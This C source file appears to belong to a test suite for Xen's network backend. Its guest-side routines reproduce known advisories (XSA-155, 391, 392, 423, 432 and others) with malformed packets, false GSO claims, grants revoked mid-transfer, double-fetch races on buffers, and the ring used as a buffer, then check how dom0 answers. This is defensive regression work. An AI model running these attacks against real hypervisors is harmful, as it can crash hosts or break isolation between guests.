// SPDX-License-Identifier: GPL-2.0
/*
 * Attacks with what is in packets, and with the buffers for them. Each slot
 * is answered whatever it holds.
 */
#include "net_attack.h"

#include <string.h>

static uint32_t random_word(void)
{
	static uint32_t n = 2024;

	n = n * 1664525 + 1013904223;
	return n >> 8;
}

static void any_status(struct net_queue *queue, unsigned int nr)
{
	struct net_tx_rsp rsp;

	while (nr--) {
		net_next_tx(queue, &rsp);
		if (rsp.status < NET_DROPPED || rsp.status > NET_NULL)
			die("TX response with status %d", rsp.status);
	}
}

/* ---- what the guest says of a packet is not what is in it (XSA-423) */

/* Headers that lead on, now and then to nowhere. */
static void make_headers(uint8_t *frame, unsigned int len)
{
	static const uint8_t protocols[] = { 6, 17, 1, 58, 0, 43, 44, 50, 51,
					     60, 4, 41, 47, 132 };
	static const uint8_t types[][2] = { { 0x08, 0x00 }, { 0x86, 0xdd },
					    { 0x81, 0x00 }, { 0x88, 0xa8 },
					    { 0x08, 0x06 }, { 0x00, 0x40 } };
	const uint8_t *type = types[random_word() % (random_word() % 3 ? 2 :
						     ARRAY_SIZE(types))];
	uint8_t *ip = frame + 14;
	unsigned int i;

	for (i = 0; i < len; i++)
		frame[i] = random_word();
	memset(frame, random_word() % 4 ? 0xfe : 0xff, 1);
	memset(frame + 1, 0xff, 5);
	frame[6] &= 0xfe;
	memcpy(frame + 12, type, 2);
	if (type[0] == 0x81 || type[0] == 0x88)
		memcpy(frame + 16, types[random_word() % 2], 2);
	if (type[0] == 0x81 || type[0] == 0x88)
		ip += 4;
	if (frame[12] == 0x86 || (ip > frame + 14 && frame[16] == 0x86)) {
		ip[0] = 0x60;
		ip[6] = protocols[random_word() % ARRAY_SIZE(protocols)];
		memset(ip + 4, random_word() % 2 ? 0 : 0xff, 1);
	} else {
		ip[0] = 0x40 | (random_word() % 4 ? 5 : random_word() % 16);
		ip[2] = len >> 8;
		ip[3] = len - 14;
		ip[6] = random_word() % 2 ? 0 : 0x20;
		ip[7] = 0;
		ip[9] = protocols[random_word() % ARRAY_SIZE(protocols)];
	}
	if (random_word() % 2)
		memset(ip + 32, 0x50, 1);
}

/* In one to four slots, cut anywhere; returns how many responses are due. */
static unsigned int put_pieces(struct net_queue *queue,
			       const struct pages *pages, unsigned int len,
			       uint16_t flags)
{
	unsigned int at = 0, nr = 0;

	while (at < len) {
		unsigned int size = len - at;
		struct net_tx tx = { .gref = pages->refs[0], .offset = at };

		if (nr < 3 && size > 1 && random_word() % 2)
			size = 1 + random_word() % (size - 1);
		tx.size = nr ? size : len;
		tx.flags = nr ? 0 : flags;
		if (at + size < len)
			tx.flags |= MORE_DATA;
		net_put_tx(queue, &tx);
		if (!nr && flags & EXTRA_INFO) {
			struct net_extra_info gso = { .type = EXTRA_GSO };
			uint16_t segment = 1 + random_word() % 3000;

			memcpy(gso.u, &segment, 2);
			gso.u[2] = 1 + random_word() % 2;
			net_put_extra(queue, &gso);
		}
		at += size;
		nr++;
	}
	return nr + !!(flags & EXTRA_INFO);
}

static void attack_odd_packets(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int i;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	for (i = 0; i < often(3000); i++) {
		unsigned int len = 14 + random_word() % (i % 3 ? 120 : 3000);
		uint16_t flags = random_word() % 8 & (CSUM_BLANK |
						      DATA_VALIDATED);
		unsigned int due;

		if (random_word() % 2)
			flags |= EXTRA_INFO;
		make_headers(pages.addr, len < 100 ? 100 : len);
		due = put_pieces(queue, &pages, len, flags);
		net_push(queue, &queue->tx);
		any_status(queue, due);
	}
	pages_unshare(&net->front, &pages);
}

/* What IPv4 carries behind VLAN tags, what is claimed of it, and what has to be
 * said to that.
 */
static const struct claim {
	uint8_t protocol, gso_type;
	uint16_t gso_size;
	uint16_t flags;
	int status;
	unsigned int tags;
	uint8_t version;	/* and length of the header; 0: as usual */
} claims[] = {
	{ 6, 1, 500, CSUM_BLANK, NET_OKAY },
	{ 6, 1, 500, 0, NET_OKAY },
	{ 6, 2, 500, CSUM_BLANK, NET_ERROR },	/* not IPv6 */
	{ 17, 1, 500, CSUM_BLANK, NET_ERROR },	/* UDP */
	{ 17, 1, 500, 0, NET_ERROR },
	{ 1, 1, 500, CSUM_BLANK, NET_ERROR },	/* ICMP */
	{ 6, 1, 1, CSUM_BLANK, NET_ERROR },	/* a segment for each byte */
	{ 6, 0, 0, CSUM_BLANK, NET_OKAY },
	{ 6, 0, 0, CSUM_BLANK, NET_OKAY, 1 },
	{ 17, 0, 0, CSUM_BLANK, NET_OKAY, 1 },
	{ 17, 0, 0, CSUM_BLANK, NET_OKAY, 2 },
	{ 17, 0, 0, CSUM_BLANK, NET_ERROR, 3 },
	{ 17, 0, 0, 0, NET_OKAY, 3 },
	{ 6, 1, 500, CSUM_BLANK, NET_OKAY, 1 },
	{ 17, 1, 500, CSUM_BLANK, NET_ERROR, 1 },
	{ 17, 0, 0, CSUM_BLANK, NET_OKAY, 0, 0x46 },
	{ 17, 0, 0, CSUM_BLANK, NET_ERROR, 0, 0x44 },	/* inside itself */
	{ 6, 0, 0, CSUM_BLANK, NET_ERROR, 0, 0x40 },
	{ 17, 0, 0, CSUM_BLANK, NET_ERROR, 1, 0x41 },
};

/* Puts tags behind the addresses; returns the length of the packet then. */
static unsigned int put_tags(uint8_t *frame, unsigned int len, unsigned int nr)
{
	static const uint8_t tag[] = { 0x81, 0x00, 0x00, 0x05 };

	for (; nr; nr--) {
		memmove(frame + 16, frame + 12, len - 12);
		memcpy(frame + 12, tag, sizeof(tag));
		len += sizeof(tag);
	}
	return len;
}

static void expect_of_claim(struct net_queue *queue, unsigned int i)
{
	struct net_tx_rsp rsp;

	net_next_tx(queue, &rsp);
	if (rsp.status != claims[i].status)
		die("claim %u: TX response with status %d, not %d", i,
		    rsp.status, claims[i].status);
	/* That of the extra info. */
	any_status(queue, claims[i].gso_type != 0);
}

/* Only TCP can be cut as TCP is, behind a tag, too. */
static void attack_wrong_gso(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int i;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	for (i = 0; i < ARRAY_SIZE(claims); i++) {
		const struct claim *claim = &claims[i];
		struct net_tx tx = {
			.gref = pages.refs[0],
			.size = net_make_echo(pages.addr, 1200, i),
			.flags = claim->flags |
				 (claim->gso_type ? EXTRA_INFO : 0),
		};
		struct net_extra_info gso = { .type = EXTRA_GSO };

		pages.addr[14 + 9] = claim->protocol;
		if (claim->version)
			pages.addr[14] = claim->version;
		/* A TCP header of 20 bytes. */
		pages.addr[14 + 20 + 12] = 0x50;
		tx.size = put_tags(pages.addr, tx.size, claim->tags);
		memcpy(gso.u, &claim->gso_size, 2);
		gso.u[2] = claim->gso_type;
		net_put_tx(queue, &tx);
		if (claim->gso_type)
			net_put_extra(queue, &gso);
		net_push(queue, &queue->tx);
		expect_of_claim(queue, i);
	}
	pages_unshare(&net->front, &pages);
}

/*
 * UDP over IPv6 behind options for its destination: to fill up, or one that
 * names another address as the source.
 */
static unsigned int make_options(uint8_t *frame, bool home)
{
	static const uint8_t headers[] = {
		0xfe, 0xff, 0xff, 0xff, 0xff, 0xff,
		0x00, 0x16, 0x3e, 0x00, 0x00, 0x09, 0x86, 0xdd,
		0x60, 0, 0, 0, 0, 48, 60, 64,
	};
	uint8_t *ip = frame + 14, *options = ip + 40, *udp = options + 24;

	memset(frame, 0, FRAME);
	memcpy(frame, headers, sizeof(headers));
	memcpy(ip + 8, "\xfe\x80", 2);
	memcpy(ip + 24, "\xfe\x80", 2);
	ip[23] = 2;
	ip[39] = 1;
	memcpy(options, "\x11\x02\x01\x02", 4);
	options[6] = home ? 201 : 1;
	options[7] = 16;
	memcpy(udp, "\x00\x09\x00\x09\x00\x18", 6);
	return 14 + 40 + 48;
}

/* Ten of either kind: a program can send the former on, but not the latter. */
static void attack_home_address(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int i;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 2, true);
	for (i = 0; i < 20; i++) {
		struct net_tx tx = {
			.gref = pages.refs[i % 2],
			.size = make_options(pages.addr + i % 2 * FRAME, i % 2),
			.flags = CSUM_BLANK,
		};

		net_put_tx(queue, &tx);
		net_push(queue, &queue->tx);
		any_status(queue, 1);
	}
	pages_unshare(&net->front, &pages);
}

/* As many bytes as a size can say, in as many slots, nowhere at a page. */
static void attack_largest(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int round, i, n;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 18, true);
	memset(pages.addr, 0xff, 6);
	for (round = 0; round < often(20); round++) {
		for (n = 0; n < NET_SLOTS / 18; n++) {
			for (i = 0; i < 18; i++) {
				struct net_tx tx = {
					.gref = pages.refs[i],
					.offset = i ? 4096 - 3640 : 0,
					.size = i ? 3640 : 65535,
					.flags = i < 17 ? MORE_DATA : 0,
				};

				net_put_tx(queue, &tx);
			}
		}
		net_push(queue, &queue->tx);
		any_status(queue, 18 * (NET_SLOTS / 18));
	}
	pages_unshare(&net->front, &pages);
}

/* ---- grants that are revoked while packets are on their way */

static void attack_revoked(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	unsigned int round, i;

	net_connect(net, &net_plain);
	for (round = 0; round < often(40); round++) {
		struct pages pages = pages_share(&net->front, 4, true);

		/* Nobody is asked to reply. */
		for (i = 0; i < 200; i++) {
			struct net_tx tx = { .gref = pages.refs[i % 4],
					     .size = 442 };

			net_put_tx(queue, &tx);
		}
		net_push(queue, &queue->tx);
		nap(round % 4 * 30);
		pages_unshare(&net->front, &pages);
		any_status(queue, 200);
	}
}

/* ---- buffers for packets: they change, are few, or lie in a ring */

/* A number that no echo has before. */
#define LAST_ECHO	0x7fffu

static void ask_for_echo(struct net_queue *queue, const struct pages *pages,
			 uint16_t number)
{
	unsigned int size[1] = { net_make_echo(pages->addr, 300, number) };

	net_send(queue, pages, size, 1, 0);
	net_expect_tx(queue, 1, NET_OKAY);
}

struct hammer {
	struct net_queue *queue;
	volatile bool stop, stopped;
};

/* Which buffer it is changes while dom0 looks (XSA-155). */
static void *hammer_buffers(void *arg)
{
	struct hammer *hammer = arg;
	struct net_queue *queue = hammer->queue;
	uint32_t n = 1;

	while (!hammer->stop) {
		volatile struct net_rx *rx;

		n = n * 1664525 + 1013904223;
		rx = net_slot(&queue->rx, n >> 20);
		if (n >> 16 & 1)
			rx->gref = queue->buffers.refs[(n >> 8) % NET_BUFFERS];
		else
			rx->gref = n | 1u << 31;
	}
	hammer->stopped = true;
	return NULL;
}

/* Every response, whatever it is, makes room for another buffer. */
static unsigned int take_all(struct net_queue *queue)
{
	struct net_rx_rsp rsp;
	unsigned int nr = 0;

	while (net_poll_rx(queue, &rsp)) {
		net_put_rx(queue, nr, queue->buffers.refs[nr % NET_BUFFERS]);
		nr++;
	}
	net_push(queue, &queue->rx);
	return nr;
}

static void attack_rx_double_fetch(struct net *net)
{
	struct net_queue *queue = &net->queues[0];
	struct hammer hammer = { queue };
	unsigned int i, taken = 0;
	struct pages pages;

	net_connect(net, &net_plain);
	pages = pages_share(&net->front, 1, true);
	thread_start(hammer_buffers, &hammer);
	for (i = 0; i < often(1000); i++) {
		ask_for_echo(queue, &pages, i);
		taken += take_all(queue);
	}
	hammer.stop = true;
	while (!hammer.stopped)
		nap(1000);
	if (!taken)
		die("dom0 has not used a single buffer");
	say("# %u buffers used", taken);
	net_close(net);
	pages_unshare(&net->front, &pages);
}

/*
 * With buffers again what is sent now comes, too: what waited for them may have
 * been given up, and the first reply lay in the one buffer that there was.
 */
static void await_life(struct net_queue *queue, const struct pages *pages)
{
	uint64_t end = now_us() + patience_s() * 1000000ull;

	do {
		if (now_us() > end)
			die("nothing comes, though there are buffers again");
		ask_for_echo(queue, pages, LAST_ECHO);
		nap(2000);
	} while (!net_take_echo(queue, 300, LAST_ECHO));
}

/* One buffer, which is less than a packet may need (XSA-392). */
static void attack_one_buffer(struct net *net)
{
	struct net_conf deaf = { .deaf = true };
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int i;

	net_connect(net, &deaf);
	pages = pages_share(&net->front, 1, true);
	net_put_rx(queue, 0, queue->buffers.refs[0]);
	net_push(queue, &queue->rx);
	for (i = 0; i < often(500); i++) {
		net_notify(queue, &queue->rx);
		ask_for_echo(queue, &pages, i % LAST_ECHO);
	}
	for (i = 1; i < NET_BUFFERS; i++)
		net_put_rx(queue, i, queue->buffers.refs[i]);
	net_push(queue, &queue->rx);
	net_notify(queue, &queue->rx);
	await_life(queue, &pages);
	net_close(net);
	pages_unshare(&net->front, &pages);
}

/* dom0's packets go over the indices of the ring that it takes ours from. */
static void attack_ring_as_buffer(struct net *net)
{
	struct net_conf deaf = { .deaf = true };
	struct net_queue *queue = &net->queues[0];
	struct pages pages;
	unsigned int i, size[1];

	net_connect(net, &deaf);
	queue->ids.unknown = true;
	pages = pages_share(&net->front, 1, true);
	for (i = 0; i < NET_BUFFERS; i++)
		net_put_rx(queue, i, queue->tx.pages.refs[0]);
	net_push(queue, &queue->rx);
	size[0] = net_make_echo(pages.addr, 300, 1);
	net_send(queue, &pages, size, 1, 0);
	for (i = 0; i < 1000; i++) {
		if (front_otherend_state(&net->front) != CONNECTED)
			break;
		net_notify(queue, &queue->tx);
		nap(2000);
	}
	pages_unshare(&net->front, &pages);
}

/* ---- events (XSA-391) */

static void *shake_rsp_event(void *arg)
{
	struct hammer *hammer = arg;
	struct net_ring *ring = &hammer->queue->tx;

	while (!hammer->stop)
		ring->s->rsp_event = ring->cons + now_us() % 40;
	hammer->stopped = true;
	return NULL;
}

/* Whatever rsp_event says, there are not more events than responses. */
static void attack_rsp_event(struct net *net)
{
	struct net_conf conf = { .split = true, .deaf = true };
	struct net_queue *queue = &net->queues[0];
	struct hammer hammer = { queue };
	unsigned int round, i, events = 0, responses = 0;
	struct net_tx_rsp rsp;
	struct pages pages;

	net_connect(net, &conf);
	pages = pages_share(&net->front, 1, true);
	while (port_wait(&net->front, 10))
		;
	thread_start(shake_rsp_event, &hammer);
	for (round = 0; round < often(20); round++) {
		for (i = 0; i < 100; i++) {
			struct net_tx tx = { .gref = pages.refs[0],
					     .size = 100 };

			net_put_tx(queue, &tx);
		}
		net_push(queue, &queue->tx);
		for (i = 0; i < 100; i += net_poll_tx(queue, &rsp))
			events += port_wait(&net->front, 0);
		responses += i;
	}
	hammer.stop = true;
	while (!hammer.stopped)
		nap(1000);
	while (port_wait(&net->front, 20))
		events++;
	if (events > responses)
		die("%u events for %u responses", events, responses);
	net_close(net);
	pages_unshare(&net->front, &pages);
}

const struct net_attack net_packet_attacks[] = {
	{ "odd-packets", "XSA-423", NET_ANSWERED, attack_odd_packets },
	{ "wrong-gso", "-", NET_ANSWERED, attack_wrong_gso },
	{ "home-address", "-", NET_ANSWERED, attack_home_address },
	{ "largest", "XSA-432", NET_ANSWERED, attack_largest },
	{ "revoked", "XSA-361,XSA-396", NET_ANSWERED, attack_revoked },
	{ "rx-double-fetch", "XSA-155", NET_ANSWERED, attack_rx_double_fetch },
	{ "one-buffer", "XSA-392", NET_ANSWERED, attack_one_buffer },
	{ "ring-as-buffer", "XSA-39", NET_STOPPED, attack_ring_as_buffer },
	{ "rsp-event", "XSA-391", NET_ANSWERED, attack_rsp_event },
};

const unsigned int net_nr_packet_attacks = ARRAY_SIZE(net_packet_attacks);
